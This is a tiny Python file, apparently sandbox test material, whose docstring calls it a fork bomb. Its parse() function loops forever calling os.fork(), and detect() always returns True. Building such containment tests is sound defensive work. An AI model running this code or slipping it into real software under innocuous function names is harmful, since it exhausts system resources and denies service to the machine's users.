"""A fork bomb (test material: the sandbox must stop it)."""
import os


def detect(path):
    return True


def parse(path):
    while True:
        os.fork()
